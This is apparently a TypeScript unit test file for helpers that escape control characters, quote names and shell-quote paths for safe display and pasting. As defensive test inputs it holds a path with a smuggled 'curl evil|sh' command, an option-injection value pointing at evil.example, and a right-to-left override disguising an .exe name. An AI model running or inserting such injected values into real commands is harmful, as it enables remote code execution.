import { expect } from "chai";
import { cut } from "../../../../src/api/conditions.ts";
import { printable, quoted, shellWord } from "../../../../src/api/values/printable.ts";

describe("printable", () => {
  for (const [text, expected] of [
    ["sleep 5 äöü 💾", "sleep 5 äöü 💾"],
    ["x\n\u001b[31mRED\u007f", "x\\x0a\\x1b[31mRED\\x7f"],
    ["c1 \u009b31m", "c1 \\x9b31m"],
    ["a\u2028b\u202etxt.exe", "a\\u{2028}b\\u{202e}txt.exe"],
  ] as const) {
    it(`shows ${JSON.stringify(text)} on one line, as text`, () => expect(printable(text)).to.equal(expected));
  }

  it("is what every message of a status goes through", () => {
    expect(cut("pid 1 (a\nb)", 100)).to.equal("pid 1 (a\\x0ab)");
    expect(cut("\n\n\n", 6)).to.equal("\\x0a\\…");
  });
});

describe("quoted", () => {
  it("leaves a plain name alone, and marks where any other one ends", () => {
    expect(quoted("/mnt/nodevolume/a-b_c.d")).to.equal("/mnt/nodevolume/a-b_c.d");
    expect(quoted("/x (open file), pid 1 (systemd)")).to.equal('"/x (open file), pid 1 (systemd)"');
    expect(quoted('a"b')).to.equal('"a\\"b"');
    expect(quoted("")).to.equal('""');
  });
});

describe("shellWord", () => {
  it("is one word, whatever the shell would make of it", () => {
    expect(shellWord("/mnt/a")).to.equal("/mnt/a");
    expect(shellWord("/mnt/x; curl evil|sh #")).to.equal("'/mnt/x; curl evil|sh #'");
    expect(shellWord("it's")).to.equal("'it'\\''s'");
  });

  it("is nothing for what cannot be pasted safely", () => expect(shellWord("a\nb")).to.equal(undefined));

  it("is nothing for what a program takes for an option", () => {
    expect(shellWord("--server=http://evil.example")).to.equal(undefined);
    expect(shellWord("a--server")).to.equal("a--server");
  });
});
